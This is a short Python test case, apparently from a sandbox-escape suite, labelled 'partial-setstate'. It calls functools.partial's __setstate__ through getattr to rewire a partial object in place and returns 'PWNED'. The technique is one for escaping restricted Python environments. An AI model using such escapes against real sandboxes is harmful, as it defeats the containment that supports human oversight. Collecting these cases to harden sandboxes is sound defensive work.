# attack: partial-setstate
# layer: language
# class: escape
# success: partial.__setstate__ changes a partial in place
import functools
def run():
    p = functools.partial(len)
    getattr(p, "__setstate__")((print, (), {}, {"__name__": 1}))
    return "PWNED"
